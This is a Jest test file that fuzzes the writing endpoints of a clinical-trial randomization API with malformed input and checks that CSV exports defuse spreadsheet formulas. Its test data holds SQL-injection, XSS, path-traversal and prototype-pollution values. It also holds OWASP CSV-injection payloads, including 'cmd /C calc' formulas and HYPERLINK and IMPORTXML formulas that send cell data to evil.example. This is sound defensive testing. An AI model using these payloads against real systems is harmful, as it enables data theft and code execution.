import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parseCsv } from '../api/fixtures/unblinding-helpers.js';
import { openRawDb, type RawDb } from '../support/raw-db.js';
import { eligibleAnswers, newParticipant, randomize } from '../support/factories.js';
import { DEMO_PASSWORD, startTestApp, type TestApp } from '../support/test-app.js';

/** QUALITY 11: bad input on every writing endpoint — 0 5xx, 0 stack traces, a code and a message, nothing changed. */
describe('bad input on every endpoint', () => {
  let t: TestApp;
  let raw: RawDb;
  const tokens: Record<string, string> = {};
  let patient: string;
  let userId: string;

  beforeAll(async () => {
    t = await startTestApp();
    for (const u of ['admin', 'investigator1', 'statistician', 'randstat', 'pharmacist', 'auditor', 'monitor'])
      tokens[u] = await t.api.login(u);
    patient = await newParticipant(t.api, tokens.investigator1);
    userId = (await t.api.get('/api/users', tokens.admin)).body.find((u: any) => u.username === 'auditor').id;
    raw = await openRawDb(t.config);
  });
  afterAll(async () => {
    await raw.close();
    await t.close();
  });

  /** The tables a rejected request must leave as they were. */
  const TABLES = [
    'users',
    'sites',
    'participants',
    'allocations',
    'corrections',
    'dispensations',
    'schemes',
    'sessions',
  ];
  /**
   * Row counts; a failed sign-in is audited by design, so for it the audit log may grow and nothing else. One
   * statement for every table (it runs twice per request, for over a thousand requests).
   */
  const snapshot = async (includeAudit = true) => {
    const tables = includeAudit ? ['audit_log', ...TABLES] : TABLES;
    const [row] = await raw.all(`SELECT ${tables.map((t) => `(SELECT COUNT(*) FROM ${t}) AS ${t}`).join(', ')}`);
    return JSON.stringify(tables.map((t) => Number(row[t])));
  };

  /**
   * Sends one request and records every problem: a 5xx, a stack trace, an error without code and
   * message, or a rejected request that changed the database.
   */
  const checker = () => {
    const problems: string[] = [];
    let requests = 0;
    const check = async (label: string, send: () => Promise<{ status: number; body: any; text: string }>) => {
      const auditedFailure = label.startsWith('/api/auth/login');
      const before = await snapshot(!auditedFailure);
      const res = await send();
      requests++;
      if (res.status >= 500) problems.push(`${label}: ${res.status} ${res.text.slice(0, 200)}`);
      if (/\bat [\w.<>]+ \(|node_modules|\.[jt]s:\d+:\d+/.test(res.text))
        problems.push(`${label}: stack trace in the body`);
      if (res.status >= 400) {
        if (
          typeof res.body?.code !== 'string' ||
          !/^[A-Z_]+$/.test(res.body.code) ||
          typeof res.body?.message !== 'string' ||
          res.body.message.length < 5
        )
          problems.push(`${label}: ${res.status} without code/message: ${res.text.slice(0, 200)}`);
        if ((await snapshot(!auditedFailure)) !== before)
          problems.push(`${label}: rejected with ${res.status} but the database changed`);
      }
      return res;
    };
    return { problems, check, count: () => requests };
  };

  type Endpoint = {
    user: string;
    method: string;
    path: string;
    body: Record<string, unknown>;
    headers?: Record<string, string>;
  };

  /** Every writing route with a body, with a valid-looking body (the fuzz varies one field at a time). */
  const bodyEndpoints = (): Endpoint[] => {
    const signature = { password: DEMO_PASSWORD };
    return [
      {
        user: 'admin',
        method: 'POST',
        path: '/api/users',
        body: { username: 'fuzzuser', displayName: 'Fuzz', role: 'auditor', siteCodes: [], email: 'fuzz@test.local' },
      },
      { user: 'admin', method: 'PATCH', path: `/api/users/${userId}`, body: { displayName: 'Aude', reason: 'fuzz' } },
      { user: 'admin', method: 'POST', path: `/api/users/${userId}/reset-password`, body: { reason: 'fuzz' } },
      { user: 'admin', method: 'POST', path: '/api/sites', body: { code: 'FZ', name: 'Fuzz site' } },
      { user: 'admin', method: 'PATCH', path: '/api/sites/A', body: { name: 'Site A' } },
      {
        user: 'investigator1',
        method: 'POST',
        path: '/api/participants',
        body: { siteCode: 'A', screeningNumber: 'FUZZ-1', ...eligibleAnswers() },
      },
      {
        user: 'investigator1',
        method: 'POST',
        path: `/api/participants/${patient}/randomize`,
        body: { signature },
        headers: { 'idempotency-key': 'fuzz-key-000001' },
      },
      {
        user: 'investigator1',
        method: 'POST',
        path: `/api/participants/${patient}/corrections`,
        body: { field: 'age', newValue: 40, reason: 'fuzz reason', signature },
      },
      {
        user: 'pharmacist',
        method: 'POST',
        path: '/api/pharmacy/dispensations',
        body: { participantId: patient, period: 1, lotNumber: 'LOT-1', signature },
      },
      {
        user: 'randstat',
        method: 'POST',
        path: '/api/study/scheme',
        body: { method: 'permuted-block', params: { blockSizes: [4] }, seed: 'fuzz-seed-1' },
      },
      { user: 'randstat', method: 'POST', path: '/api/study/activate', body: { signature } },
      {
        user: 'randstat',
        method: 'POST',
        path: '/api/study/scheme/import',
        body: { csv: 'stratum,position,arm,treatment_code\n' },
      },
      { user: 'randstat', method: 'POST', path: '/api/study/rehearsal', body: { patients: 10 } },
      { user: 'statistician', method: 'POST', path: '/api/simulations', body: { method: 'simple', n: 10, trials: 10 } },
      { user: 'auditor', method: 'POST', path: '/api/audit/checkpoints', body: { reason: 'fuzz' } },
      { user: 'admin', method: 'POST', path: '/api/auth/login', body: { username: 'admin', password: 'x' } },
      {
        user: 'admin',
        method: 'POST',
        path: '/api/auth/set-password',
        body: { token: 'not-a-token-that-was-issued', password: 'password-123' },
      },
      {
        user: 'randstat',
        method: 'POST',
        path: '/api/role-grants/00000000-0000-4000-8000-000000000000/decision',
        body: { approve: true, comment: 'fuzz', signature },
      },
    ];
  };

  it('answers every malformed request with a 4xx, a code and a message, and leaves the database unchanged [REL-005]', async () => {
    const endpoints = bodyEndpoints();
    const nasty: unknown[] = [
      123,
      -1.5e308,
      true,
      null,
      [],
      {},
      [1, 2],
      'x'.repeat(100_000),
      '😀\u0000\uFFFF\u202E',
      "' OR 1=1; DROP TABLE users; --",
      '<script>alert(1)</script>',
      '../../etc/passwd',
      { $ne: null },
    ];
    const raws = ['{', '{"a":', '[', 'null', '"text"', '123', '{"a":1}}', '\u0000'];
    const { problems, check, count } = checker();
    for (const ep of endpoints) {
      const token = tokens[ep.user];
      const req = (body: unknown, extra: Record<string, string> = {}) =>
        t.api.request(ep.method, ep.path, { token, body, headers: { ...(ep.headers ?? {}), ...extra } });
      for (const text of raws)
        await check(`${ep.path} raw ${JSON.stringify(text)}`, () =>
          t.api.request(ep.method, ep.path, {
            token,
            raw: text,
            headers: { 'content-type': 'application/json', ...(ep.headers ?? {}) },
          }),
        );
      for (const type of [
        'text/plain',
        'application/xml',
        'application/x-www-form-urlencoded',
        'multipart/form-data; boundary=x',
      ]) {
        await check(`${ep.path} content-type ${type}`, () =>
          t.api.request(ep.method, ep.path, {
            token,
            raw: 'a=1',
            headers: { 'content-type': type, ...(ep.headers ?? {}) },
          }),
        );
      }
      await check(`${ep.path} huge body`, () => req({ ...ep.body, padding: 'x'.repeat(1_000_000) }));
      await check(`${ep.path} unknown field`, () => req({ ...ep.body, unexpected: 1 }));
      await check(`${ep.path} array body`, () => req([ep.body]));
      for (const field of Object.keys(ep.body)) {
        const { [field]: _dropped, ...missing } = ep.body;
        await check(`${ep.path} missing ${field}`, () => req(missing));
        for (const value of nasty)
          await check(`${ep.path} ${field}=${JSON.stringify(value).slice(0, 30)}`, () =>
            req({ ...ep.body, [field]: value }),
          );
      }
    }
    for (const path of [
      '/api/participants/not-a-uuid',
      '/api/users/%27%3B%20DROP',
      '/api/participants/%00',
      `/api/audit?after=-1`,
      '/api/audit?limit=abc',
      '/api/audit?from=yesterday',
      '/api/allocation-log?format=xml',
      '/api/study/scheme?format=pdf',
    ]) {
      await check(`GET ${path}`, () => t.api.get(path, tokens.statistician));
    }
    console.log(
      `QUALITY 11: ${count()} malformed requests on ${endpoints.length} endpoints; problems=${problems.length}`,
    );
    expect(problems).toEqual([]);
    expect((await t.api.get('/api/audit/verify', tokens.admin)).body.valid).toBe(true);
  }, 600_000); // restarts and storms take minutes on a loaded 2-core machine
  /** Deep nesting, huge numbers, NaN/Infinity spellings, wrong types and unicode, one field at a time. */
  const nest = (depth: number, leaf: unknown, asObject: boolean): unknown => {
    let v = leaf;
    for (let i = 0; i < depth; i++) v = asObject ? { a: v } : [v];
    return v;
  };
  const CORPUS: unknown[] = [
    nest(31, 1, false),
    nest(40, 1, false),
    nest(40, 'x', true),
    nest(200, null, true),
    1e308,
    -1e308,
    1.7976931348623157e308,
    5e-324,
    -0,
    // eslint-disable-next-line no-loss-of-precision -- a literal past 2^53 is the point of the case
    9007199254740993,
    2 ** 63,
    -(2 ** 31) - 1,
    0.1 + 0.2,
    'NaN',
    'Infinity',
    '-Infinity',
    '1e309',
    '0x1F',
    ' 42 ',
    '',
    '-0',
    {},
    [],
    true,
    false,
    null,
    [[[]]],
    { 0: 1 },
    [null],
    { __proto__: { admin: true } },
    { constructor: { prototype: { polluted: 1 } } },
    '\u202Eevil\u202C',
    'e\u0301\u0301\u0301',
    '\uD800',
    '\uDFFF\uD800',
    '\u0000',
    '\u200B\u200D\uFEFF',
    'Ω≈ç√∫',
    '𝕏'.repeat(64),
    '👩‍⚕️💉',
    'ﷺ'.repeat(20),
  ];
  /** Spellings no JSON serializer writes but a hostile client can send: substituted into the raw text. */
  const RAW_VALUES = [
    '1e309',
    '-1e309',
    '1e999999',
    'NaN',
    'Infinity',
    '-Infinity',
    '+1',
    '01',
    '.5',
    '1.',
    '0x10',
    '['.repeat(3000) + ']'.repeat(3000),
    '{"a":'.repeat(1000) + '1' + '}'.repeat(1000),
  ];

  it('a fuzz corpus over every route with a body: 0 5xx, every rejection with a code, database unchanged [REL-005]', async () => {
    const signature = { password: DEMO_PASSWORD };
    const endpoints: Endpoint[] = [
      ...bodyEndpoints().map((ep) =>
        ep.path === '/api/auth/login'
          ? { ...ep, body: { username: 'nobody-fuzz', password: 'x' } }
          : ep.path === '/api/users' && ep.method === 'POST'
            ? { ...ep, body: { ...ep.body, username: 'fuzzuser2' } }
            : ep,
      ),
      { user: 'auditor', method: 'POST', path: '/api/study/lock', body: { reason: 'fuzz', signature } },
      {
        user: 'statistician',
        method: 'POST',
        path: '/api/study/unblind',
        body: { signature, secondSignature: { username: 'statistician', password: DEMO_PASSWORD } },
      },
      {
        user: 'investigator1',
        method: 'POST',
        path: '/api/unblinding-requests',
        body: { participantId: patient, reason: 'fuzz reason', emergency: false, signature },
      },
      {
        user: 'monitor',
        method: 'POST',
        path: '/api/unblinding-requests/00000000-0000-4000-8000-000000000000/decision',
        body: { approve: true, comment: 'fuzz comment', signature },
      },
    ];
    const { problems, check, count } = checker();
    for (const ep of endpoints) {
      const token = tokens[ep.user];
      const send = (raw: string) =>
        t.api.request(ep.method, ep.path, {
          token,
          raw,
          headers: { 'content-type': 'application/json', ...(ep.headers ?? {}) },
        });
      for (const field of Object.keys(ep.body)) {
        for (const value of CORPUS)
          await check(`${ep.path} ${field}=${JSON.stringify(value)?.slice(0, 30)}`, () =>
            send(JSON.stringify({ ...ep.body, [field]: value })),
          );
        for (const value of RAW_VALUES) {
          await check(`${ep.path} ${field}=raw ${value.slice(0, 20)}`, () =>
            send(JSON.stringify({ ...ep.body, [field]: '__FUZZ__' }).replace('"__FUZZ__"', value)),
          );
        }
      }
    }
    console.log(
      `fuzz corpus: ${count()} requests on ${endpoints.length} routes with a body (${CORPUS.length + RAW_VALUES.length} values per field); problems=${problems.length}`,
    );
    expect(problems).toEqual([]);
    expect((await t.api.get('/api/audit/verify', tokens.admin)).body.valid).toBe(true);
  }, 600_000);

  /** A cell a spreadsheet would run: a formula trigger first, and not a plain number. */
  const liveFormula = (cell: string) =>
    /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(cell);

  it('OWASP CSV-injection payloads in every free-text field come out of every CSV export as 0 live formulas [EXP-003]', async () => {
    const payloads = [
      "=cmd|' /C calc'!A0",
      "+1+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      '\t=1+1',
      '\r=1+1',
      '-1+1',
      '+1-1',
      '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
      '-5e3+cmd',
      '=1',
      '@A1',
    ];
    const investigator = tokens.investigator1;
    const id = await newParticipant(t.api, investigator, { site: 'A' });
    expect((await randomize(t.api, investigator, id, `csv-inj-${id}`)).status).toBe(201);
    const users = (await t.api.get('/api/users', tokens.admin)).body;
    const monitor = users.find((u: any) => u.username === 'monitor');
    const accepted: string[] = [];
    for (const [i, payload] of payloads.entries()) {
      const writes = [
        await t.api.post(
          `/api/participants/${id}/corrections`,
          { field: 'age', newValue: 40 + i, reason: `${payload}`, signature: { password: DEMO_PASSWORD } },
          investigator,
        ),
        await t.api.patch(
          `/api/users/${monitor.id}`,
          { displayName: `${payload}`.slice(0, 100), reason: payload },
          tokens.admin,
        ),
        await t.api.patch('/api/sites/A', { name: payload }, tokens.admin),
        await t.api.post(
          '/api/unblinding-requests',
          { participantId: id, reason: payload, emergency: true, signature: { password: DEMO_PASSWORD } },
          investigator,
        ),
      ];
      for (const w of writes) {
        expect(w.status).toBeLessThan(500);
        if (w.status < 300) accepted.push(payload);
      }
    }
    expect(accepted.length).toBeGreaterThan(payloads.length); // the payloads really are in the data
    const exports: Array<[string, string]> = [
      ['audit export (auditor)', (await t.api.get('/api/audit/export', tokens.auditor)).text],
      ['audit export (admin)', (await t.api.get('/api/audit/export', tokens.admin)).text],
      [
        'allocation log (randomization statistician)',
        (await t.api.get('/api/allocation-log?format=csv', tokens.randstat)).text,
      ],
      ['allocation log (investigator)', (await t.api.get('/api/allocation-log?format=csv', investigator)).text],
      ['unblinding register', (await t.api.get('/api/unblinding-register?format=csv', tokens.auditor)).text],
    ];
    const live: string[] = [];
    let cells = 0;
    for (const [name, text] of exports) {
      for (const row of parseCsv(text)) {
        for (const cell of row) {
          cells++;
          if (liveFormula(cell)) live.push(`${name}: ${JSON.stringify(cell).slice(0, 60)}`);
        }
      }
    }
    const guarded = exports.reduce((n, [, text]) => n + (text.match(/'[=+\-@\t\r]/g)?.length ?? 0), 0);
    console.log(
      `CSV injection: ${payloads.length} payloads, ${accepted.length} accepted writes, ${exports.length} exports, ${cells} cells, ${guarded} guarded, live formulas=${live.length}`,
    );
    expect(guarded).toBeGreaterThan(0);
    expect(live).toEqual([]);
  }, 600_000);
});
